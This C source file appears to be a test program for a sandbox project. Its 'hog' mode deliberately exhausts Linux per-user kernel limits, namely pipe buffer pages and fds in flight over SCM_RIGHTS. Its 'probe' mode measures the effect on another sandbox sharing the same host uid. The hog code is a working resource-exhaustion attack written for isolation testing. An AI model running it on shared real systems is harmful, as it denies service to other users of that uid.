/* fk-attack-userlimits hog|probe: the kernel's per-user limits, shared by every sandbox whose ids
   map to the same host uid.
   hog:   raises RLIMIT_NOFILE to its hard limit, makes pipes until the user's pipe buffers pass
          fs.pipe-user-pages-soft (a new pipe then gets 8 KiB instead of 64 KiB; about 1,000
          pipes), then sends the fd of a socket over SCM_RIGHTS into socketpairs it never reads,
          until the kernel refuses (ETOOMANYREFS: the user's fds in flight exceed the sender's
          RLIMIT_NOFILE) or fds run out. Prints what it holds, then `ready', and sleeps until
          killed.
   probe: what an ordinary program of another sandbox gets: with the usual soft RLIMIT_NOFILE
          of 1024 it sends one fd over SCM_RIGHTS, and reads F_GETPIPE_SZ of a new pipe. Prints
          `scm_rights=ok' or `scm_rights=ERRNO-NAME', and `pipe_size=N'; exits 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define FDS_PER_MESSAGE 253 /* SCM_MAX_FD */
#define MAX_PIPES 2048

static const char *
errno_name (int e)
{
  switch (e)
    {
    case ETOOMANYREFS:
      return "ETOOMANYREFS";
    case EMFILE:
      return "EMFILE";
    case ENFILE:
      return "ENFILE";
    case ENOBUFS:
      return "ENOBUFS";
    case ENOMEM:
      return "ENOMEM";
    case EAGAIN:
      return "EAGAIN";
    case EPERM:
      return "EPERM";
    default:
      return "other";
    }
}

/* Sends n copies of fd with one byte over sock; returns sendmsg's result. */
static ssize_t
send_fds (int sock, int fd, int n, int flags)
{
  static int fds[FDS_PER_MESSAGE];
  for (int i = 0; i < n; i++)
    fds[i] = fd;
  union
  {
    char buf[CMSG_SPACE (sizeof fds)];
    struct cmsghdr align;
  } u;
  memset (&u, 0, sizeof u);
  char byte = 'x';
  struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
  struct msghdr msg = {
    .msg_iov = &iov,
    .msg_iovlen = 1,
    .msg_control = u.buf,
    .msg_controllen = CMSG_SPACE (sizeof (int) * (size_t)n),
  };
  struct cmsghdr *c = CMSG_FIRSTHDR (&msg);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN (sizeof (int) * (size_t)n);
  memcpy (CMSG_DATA (c), fds, sizeof (int) * (size_t)n);
  return sendmsg (sock, &msg, flags);
}

static int
hog (void)
{
  struct rlimit rl;
  if (getrlimit (RLIMIT_NOFILE, &rl) == 0)
    {
      rl.rlim_cur = rl.rlim_max;
      setrlimit (RLIMIT_NOFILE, &rl);
    }
  getrlimit (RLIMIT_NOFILE, &rl);
  printf ("nofile=%llu/%llu\n", (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max);

  /* Pipes first: each takes 16 pages of the user's pipe buffers while under the soft limit. */
  int pipes = 0, full = 0, small_size = 0, pipe_errno = 0;
  while (pipes < MAX_PIPES)
    {
      int p[2];
      if (pipe (p) < 0)
        {
          pipe_errno = errno;
          break;
        }
      pipes++;
      int size = fcntl (p[0], F_GETPIPE_SZ);
      if (size >= 65536)
        full++;
      else
        {
          small_size = size;
          break; /* the user is past the soft limit: every new pipe of theirs is small now */
        }
    }
  printf ("pipes=%d full_size=%d", pipes, full);
  if (small_size)
    printf (" then_small=%d", small_size);
  if (pipe_errno)
    printf (" stopped_by=%s", errno_name (pipe_errno));
  printf ("\n");

  /* Then fds in flight: the fd of one socket, FDS_PER_MESSAGE at a time, into socketpairs
     nobody reads; a full one (EAGAIN) is replaced by a new one. */
  int payload[2];
  if (socketpair (AF_UNIX, SOCK_STREAM, 0, payload) < 0)
    {
      printf ("socketpair: %s\n", strerror (errno));
      return 1;
    }
  unsigned long long in_flight = 0;
  int sockets = 0, stop_errno = 0;
  int sv[2] = { -1, -1 };
  for (;;)
    {
      if (sv[0] < 0)
        {
          if (socketpair (AF_UNIX, SOCK_STREAM, 0, sv) < 0)
            {
              stop_errno = errno;
              break;
            }
          sockets++;
        }
      ssize_t r = send_fds (sv[0], payload[0], FDS_PER_MESSAGE, MSG_DONTWAIT);
      if (r >= 0)
        {
          in_flight += FDS_PER_MESSAGE;
          continue;
        }
      if (errno == EAGAIN)
        {
          sv[0] = sv[1] = -1; /* kept open, full */
          continue;
        }
      stop_errno = errno;
      break;
    }
  printf ("in_flight=%llu sockets=%d stopped_by=%s\n", in_flight, sockets, errno_name (stop_errno));
  printf ("ready\n");
  fflush (stdout);
  for (;;)
    pause ();
}

static int
probe (void)
{
  struct rlimit rl;
  if (getrlimit (RLIMIT_NOFILE, &rl) == 0 && rl.rlim_max >= 1024)
    {
      rl.rlim_cur = 1024;
      setrlimit (RLIMIT_NOFILE, &rl);
    }
  int sv[2];
  if (socketpair (AF_UNIX, SOCK_STREAM, 0, sv) < 0)
    {
      printf ("socketpair: %s\n", strerror (errno));
      return 1;
    }
  if (send_fds (sv[0], sv[0], 1, 0) == 1)
    printf ("scm_rights=ok\n");
  else
    printf ("scm_rights=%s (%s)\n", errno_name (errno), strerror (errno));
  int p[2];
  if (pipe (p) < 0)
    printf ("pipe_size=none (%s)\n", strerror (errno));
  else
    printf ("pipe_size=%d\n", fcntl (p[0], F_GETPIPE_SZ));
  return 0;
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc == 2 && strcmp (argv[1], "hog") == 0)
    return hog ();
  if (argc == 2 && strcmp (argv[1], "probe") == 0)
    return probe ();
  fprintf (stderr, "usage: fk-attack-userlimits hog|probe\n");
  return 2;
}
